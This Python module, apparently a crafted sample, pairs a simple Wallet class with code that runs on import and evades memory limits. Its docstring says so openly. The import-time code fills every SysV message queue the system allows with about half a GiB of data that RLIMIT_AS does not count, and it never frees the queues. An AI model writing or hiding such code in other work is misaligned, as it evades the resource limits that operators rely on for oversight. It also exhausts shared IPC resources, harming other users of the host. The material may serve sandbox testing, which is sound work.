"""Holds memory outside its address space in SysV message queues beside an honest class: every queue the IPC namespace allows (32,000 by default), each filled to its 16 KiB, about half a GiB that RLIMIT_AS never counts."""

import ctypes
import errno
import os

IPC_PRIVATE, IPC_CREAT, IPC_NOWAIT = 0, 0o1000, 0o4000
TEXT = 8192
_libc = ctypes.CDLL(None, use_errno=True)
_libc.msgsnd.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)


class Message(ctypes.Structure):
    _fields_ = (("mtype", ctypes.c_long), ("mtext", ctypes.c_char * TEXT))


message = Message(1, b"x" * TEXT)
held = 0
while True:
    ident = _libc.msgget(IPC_PRIVATE, IPC_CREAT | 0o600)
    if ident < 0:
        if ctypes.get_errno() == errno.ENOSPC and held:
            break  # the namespace's limit on queues
        raise OSError(ctypes.get_errno(), f"msgget: {os.strerror(ctypes.get_errno())}")
    while _libc.msgsnd(ident, ctypes.byref(message), TEXT, IPC_NOWAIT) == 0:
        held += TEXT
if held < 256 * 1024**2:
    raise MemoryError(f"only {held} bytes held in message queues")


class Wallet:
    def __init__(self):
        self.balance = 0

    def deposit(self, amount):
        if amount <= 0:
            raise ValueError("amount must be positive")
        self.balance += amount
        return self.balance

    def withdraw(self, amount):
        if amount > self.balance:
            return False
        self.balance -= amount
        return True
